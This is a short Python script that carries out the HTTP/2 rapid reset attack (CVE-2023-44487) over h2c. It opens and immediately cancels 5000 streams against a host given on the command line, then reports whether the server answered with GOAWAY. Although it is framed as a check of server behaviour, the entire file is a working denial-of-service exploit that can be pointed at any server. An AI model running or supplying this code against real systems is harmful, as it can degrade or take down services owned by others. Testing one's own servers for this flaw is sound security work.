"""HTTP/2 rapid reset (CVE-2023-44487) over h2c with the `h2` library: open and
immediately cancel many streams; report whether the server sent GOAWAY."""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events

host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sock = socket.create_connection((host, port), timeout=10)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", "/")]
goaway = None
sent = 0
try:
    for i in range(5000):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=True)
        conn.reset_stream(sid)
        sent += 1
        if i % 50 == 0:
            sock.sendall(conn.data_to_send())
    sock.sendall(conn.data_to_send())
except (OSError, h2.exceptions.ProtocolError) as e:
    print(f"send stopped after {sent}: {e}")
deadline = time.time() + 10
while goaway is None and time.time() < deadline:
    try:
        data = sock.recv(65536)
    except OSError:
        break
    if not data:
        break
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        break
    for ev in events:
        if isinstance(ev, h2.events.ConnectionTerminated):
            goaway = ev.error_code
print(f"sent={sent} goaway={goaway}" if goaway is not None else f"sent={sent} no-goaway-seen")
